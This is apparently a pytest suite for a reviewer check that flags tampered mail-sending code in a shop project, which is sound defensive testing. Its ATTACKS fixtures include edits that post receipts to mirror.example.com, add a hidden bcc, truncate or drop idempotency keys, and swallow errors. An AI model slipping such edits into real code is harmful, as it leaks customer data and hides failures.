"""The look at the code behind an effect's call, which a proof stands in for."""

from __future__ import annotations

import pytest
from looks import SHOP, SPEC, SPEC_TEXT, everything, found, severities
from rows import real_but

LOOK = "altered-adapter"
MAILER = "shop/mailer.py"
TEXT = (SHOP / MAILER).read_text()
BASE = {SPEC: SPEC_TEXT, "shop/__init__.py": "", MAILER: TEXT}
POST = "        _post(url, mail, idempotency_key)\n"
HEADER = '"Idempotency-Key": idempotency_key'
URLOPEN = "        urllib.request.urlopen(request, timeout=TIMEOUT_S).close()\n"


def changed(*pairs: tuple[str, str], more: dict[str, str] | None = None) -> dict[str, str]:
    """The shop with a mailer in which texts are replaced."""
    text = TEXT
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    return {**BASE, MAILER: text, **(more or {})}


ATTACKS = {
    "a helper that decides whether there is an error": changed(
        (
            "def _write(",
            "def _hides(error):\n    try:\n        raise Unavailable(str(error)) from error\n"
            "    except Unavailable:\n        return None\n\n\ndef _write(",
        ),
        ("        raise Unavailable(str(error)) from error\n", "        _hides(error)\n"),
    ),
    "a client that a call has made calls again": changed(
        (URLOPEN, URLOPEN + '        httpx.Client(timeout=9).get("https://mirror.example.com")\n'),
        ("import json\n", "import json\n\nimport httpx\n"),
    ),
    "the key is cut where it is sent": changed((HEADER, f"{HEADER}[:12]")),
    "the key is cut on the way": changed((POST, POST.replace("key)", "key[-8:])"))),
    "the key is cut in a helper": changed(
        (HEADER, '"Idempotency-Key": _short(idempotency_key)'),
        ("def _write(", "def _short(key):\n    return key[:12]\n\n\ndef _write("),
    ),
    "a short hash": changed(
        (HEADER, '"Idempotency-Key": hashlib.sha256(idempotency_key.encode()).hexdigest()[:6]'),
        ("import json\n", "import hashlib\nimport json\n"),
    ),
    "a checksum": changed(
        (HEADER, '"Idempotency-Key": str(zlib.crc32(idempotency_key.encode()))'),
        ("import json\n", "import json\nimport zlib\n"),
    ),
    "a format with a precision": changed((HEADER, '"Idempotency-Key": f"{idempotency_key:.10}"')),
    "another key": changed(
        (POST, '        idempotency_key = mail["to"]\n' + POST),
    ),
    "the key is dropped": changed(
        (f", {HEADER}", ""), ('f"{idempotency_key}.json"', '"mail.json"')
    ),
    "the key is dropped where a rate allows it": changed(
        (POST, POST.replace("key)", 'key if order_id % 2 else "")'))
    ),
    "a second provider": changed(
        (POST, POST + '        _post(os.environ.get("BACKUP", url), mail, idempotency_key)\n')
    ),
    "a second provider where the first is down": changed(
        (
            POST,
            "        try:\n    " + POST + "        except Unavailable:\n"
            '            _post(os.environ["BACKUP"], mail, idempotency_key)\n'
            "            raise\n",
        )
    ),
    "each of several providers": changed(
        (
            POST,
            '        for one in url.split(","):\n            _post(one, mail, idempotency_key)\n',
        )
    ),
    "a mirror in a module of its own": changed(
        (POST, POST + "        mirror.copy(mail)\n"),
        ("import json\n", "import json\n"),
        ("TIMEOUT_S = 10", "from shop import mirror\n\nTIMEOUT_S = 10"),
        more={
            "shop/mirror.py": (
                "import requests\n\n\ndef copy(mail):\n"
                '    requests.post("https://mirror.example.com", json=mail)\n'
            )
        },
    ),
    "errors are swallowed": changed(
        ('        raise Unavailable(f"the mail provider answered {error.code}") from error\n', ""),
        (
            "            raise BadAddress(f\"{mail['to']}: {error.code}\") from error\n",
            "            return\n",
        ),
    ),
    "an error that ends normally for some answers": changed(
        (
            "        if error.code in (400,",
            "        if error.code in (404, 410):\n            return\n        if error.code in (400,",
        ),
    ),
    "nothing goes out where a variable says so": changed(
        (
            "    if url:\n" + POST,
            '    if os.environ.get("SHOP_MAIL_PAUSED"):\n        return\n    if url:\n' + POST,
        ),
    ),
    "only some go out": changed(
        ("    if url:\n" + POST, '    if url and email.endswith("example.com"):\n' + POST),
        ("    else:\n        _write(", "    elif not url:\n        _write("),
    ),
    "a condition around the call": changed(
        (POST, "        if len(email) < 64:\n    " + POST),
    ),
    "a short cut": changed((POST, POST.replace("_post(", "os.environ.get('ON') and _post("))),
    "a case without a call": changed(
        (
            POST,
            "        match email.partition('@')[2]:\n            case 'example.org':\n"
            "                pass\n            case _:\n        " + POST,
        ),
    ),
    "an error is only logged where it is a time-out": changed(
        (
            "        raise Unavailable(str(error)) from error\n",
            "        if isinstance(error, TimeoutError):\n            print(error)\n"
            "        else:\n            raise Unavailable(str(error)) from error\n",
        ),
    ),
}
ATTACKS |= {
    "a hidden copy for somebody else": changed(
        (
            '"subject": f"Your receipt for order {order_id}"}',
            '"subject": f"Your receipt for order {order_id}", "bcc": "archive@example.com"}',
        ),
    ),
}
# What an error says of itself: how long a busy provider asks to wait.
PATIENCE = "def _patience(asked):\n    try:\n        return int(asked)\n    except ValueError:\n        return 60\n\n\n"
BUSY = 'raise Unavailable(f"the mail provider answered {error.code}") from error'
HONEST = {
    "a helper that words an error": changed(
        ("def _write(", PATIENCE + "def _write("),
        (BUSY, BUSY.replace("{error.code}", "{_patience(error.reason)}")),
    ),
    "a further check that raises": changed(
        (
            "    if url:\n" + POST,
            "    if len(email) > 320:\n        raise BadAddress(email)\n    if url:\n" + POST,
        ),
    ),
    "another provider for some, once": changed(
        (
            POST,
            POST
            + "    elif email.endswith('.org'):\n        _post('https://b.example', mail, idempotency_key)\n",
        ),
    ),
    "what comes after the call": changed(
        (
            URLOPEN,
            URLOPEN.replace("        urllib", "        answer = urllib").replace(".close()", "")
            + "        if answer.status == 202:\n            return\n        answer.close()\n",
        ),
    ),
    "an error is raised from one place": changed(
        (
            "        raise Unavailable(str(error)) from error\n",
            "        if 'x' in str(error):\n            raise Unavailable('x') from error\n"
            "        else:\n            raise Unavailable(str(error)) from error\n",
        ),
    ),
    "the key is bytes on the way": changed(
        (HEADER, '"Idempotency-Key": idempotency_key.encode().decode()')
    ),
    "a prefix": changed((HEADER, '"Idempotency-Key": f"shop-{idempotency_key}"')),
    "another name": changed(
        ("mail: dict[str, str], idempotency_key: str", "mail: dict[str, str], key: str"),
        (HEADER, '"Idempotency-Key": key'),
        ('f"{idempotency_key}.json"', 'f"{key}.json"'),
    ),
    "a helper makes the request": changed(
        (
            "    request = urllib.request.Request(\n        url,\n"
            "        data=json.dumps(mail).encode(),\n"
            '        headers={"Content-Type": "application/json", "Idempotency-Key": idempotency_key},\n'
            "    )\n",
            "    request = _request(url, mail, idempotency_key)\n",
        ),
        (
            "def _write(",
            "def _request(url, mail, key):\n"
            '    headers = {"Content-Type": "application/json", "Idempotency-Key": key}\n'
            "    return urllib.request.Request(url, data=json.dumps(mail).encode(), headers=headers)"
            "\n\n\ndef _write(",
        ),
    ),
    "an early return": changed(
        (
            "    if url:\n" + POST + "    else:\n        _write(",
            "    if url:\n" + POST + "        return\n    _write(",
        ),
        ("idempotency_key)\n\n\ndef _post", "idempotency_key)\n\n\ndef _post"),
    ),
    "a longer wait": changed(("TIMEOUT_S = 10", "TIMEOUT_S = 20"), (URLOPEN, URLOPEN + "\n")),
    "a log line with the start of the key": changed(
        (POST, '        log.info("posting %s", idempotency_key[:8])\n' + POST),
        ("TIMEOUT_S = 10", "log = logging.getLogger(__name__)\nTIMEOUT_S = 10"),
        ("import json\n", "import json\nimport logging\n"),
    ),
    "a header of the answer is asked": changed(
        (
            URLOPEN,
            URLOPEN.replace("        urllib", "        answer = urllib").replace(".close()", "")
            + "        if answer.headers.get('X-State') == 'failed':\n"
            "            raise Unavailable('it came to nothing')\n        answer.close()\n",
        ),
    ),
    "a check of the key": changed(
        (
            POST,
            "        if not idempotency_key.strip():\n            raise BadAddress(email)\n" + POST,
        )
    ),
}


# By a 409 some providers say that it was done before, and others that the first call is at work.
CONFLICT = changed(
    (
        "        if error.code in (400,",
        "        if error.code == 409:\n            return\n        if error.code in (400,",
    ),
)
OPENER = changed(
    ("        urllib.request.urlopen(", "        _opener.open("),
    (
        "def _post(",
        "class _NoRedirect(urllib.request.HTTPRedirectHandler):\n"
        "    def redirect_request(self, *_):\n        return None\n\n\n"
        "_opener = urllib.request.build_opener(_NoRedirect)\n\n\ndef _post(",
    ),
)


@pytest.mark.parametrize("name", ATTACKS)
def test_what_a_provider_gets_otherwise_is_an_error(name: str) -> None:
    assert "error" in severities(found(LOOK, BASE, ATTACKS[name]))


QUICK = (
    *("a further check that raises", "an error is raised from one place", "another name"),
    *("a helper makes the request", "a longer wait", "a log line with the start of the key"),
)


@pytest.mark.real
@pytest.mark.parametrize("name", real_but(HONEST, *QUICK))
def test_an_honest_change_is_at_most_a_note(name: str) -> None:
    assert set(severities(everything(BASE, HONEST[name]))) <= {"note"}


@pytest.mark.real
def test_a_conflict_that_is_done_is_for_the_reviewer() -> None:
    assert set(severities(everything(BASE, CONFLICT))) == {"note", "warning"}


@pytest.mark.real
def test_an_opener_calls_out_as_well() -> None:
    assert set(severities(everything(BASE, OPENER))) <= {"note"}


@pytest.mark.parametrize(
    "change",
    [
        ("TIMEOUT_S = 10", "TIMEOUT_S = None"),
        (", timeout=TIMEOUT_S)", ")"),
        ("timeout=TIMEOUT_S", "timeout=None"),
    ],
)
def test_a_call_that_lost_its_time_out_is_for_the_reviewer(change: tuple[str, str]) -> None:
    findings = found(LOOK, BASE, changed(change))
    assert "warning" in severities(findings)
    assert "no longer has a time-out" in findings[0].message


def test_what_changed_is_noted() -> None:
    (finding,) = found(LOOK, BASE, HONEST["a prefix"])
    assert (finding.severity, finding.path) == ("note", MAILER)
    assert "shop-" in finding.message


def test_words_alone_are_no_change() -> None:
    new = changed(('"""Sends one receipt. Raises', '"""Sends a receipt. Raises'))
    assert found(LOOK, BASE, new) == []
